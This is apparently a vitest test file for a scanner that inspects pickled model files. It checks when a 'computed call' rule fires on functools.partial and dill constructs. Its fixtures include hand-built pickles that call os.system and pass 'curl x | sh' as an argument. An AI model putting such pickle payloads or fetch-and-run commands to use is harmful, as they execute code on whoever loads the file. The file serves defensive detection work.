import { describe, expect, it } from 'vitest';
import { analyse } from '../support.js';

/** `functools.partial(lib.blocks.new_block)`, as pandas 1.3 pickles what its blocks are made with. */
const partial = (held: string, again: string): string => `cfunctools\npartial\n(${held}tR(${again})}Ntb`;
const NEW_BLOCK = 'clib.blocks\nnew_block\n';
const called = (callee: string, args: string): string => `${callee}(${args}tR.`;

async function rulesOf(text: string): Promise<readonly string[]> {
  const { rules } = await analyse(Buffer.from(text, 'latin1'), 'model.pkl');
  return rules;
}

describe('a partial call of a function of a library', () => {
  it('is what a direct call with its arguments is', async () => {
    expect(await rulesOf(called(partial(NEW_BLOCK, NEW_BLOCK), 'I1\n'))).not.toContain('STATIC-PICKLE-CALLS-COMPUTED');
    expect(await rulesOf(called(`cfunctools\npartial\n(${NEW_BLOCK}tR`, 'I1\n'))).not.toContain(
      'STATIC-PICKLE-CALLS-COMPUTED',
    );
  });

  it.each([
    ['whose state puts another function in its place', called(partial(NEW_BLOCK, 'cother\nthing\n'), 'I1\n')],
    [
      'that has its function back after the call',
      `${partial(NEW_BLOCK, 'cother\nthing\n')}p0\n(Vid\ntR0g0\n(${NEW_BLOCK})}Ntb.`,
    ],
    ['that is given a command', called(partial(NEW_BLOCK, NEW_BLOCK), 'Vcurl x | sh\n')],
    ['that held a command', called(`cfunctools\npartial\n(${NEW_BLOCK}Vcurl x | sh\ntR`, 'I1\n')],
    ['of what acts', called(partial('cos\nsystem\n', 'cos\nsystem\n'), 'Vid\n')],
  ])('is none %s', async (_, text) => {
    expect(await rulesOf(text)).toContain('STATIC-PICKLE-CALLS-COMPUTED');
  });
});

it('dill reaches the function that rebuilds arrays by its module', async () => {
  const module = 'cdill._dill\n_import_module\n(Vnumpy.core._multiarray_umath\ntR';
  const text = `cdill._dill\n_get_attr\n(${module}V_reconstruct\ntR(cnumpy\nndarray\n(I0\ntVb\ntR.`;
  expect(await rulesOf(text)).not.toContain('STATIC-PICKLE-CALLS-COMPUTED');
  expect(await rulesOf(text.replace('_reconstruct', 'other'))).toContain('STATIC-PICKLE-CALLS-COMPUTED');
});
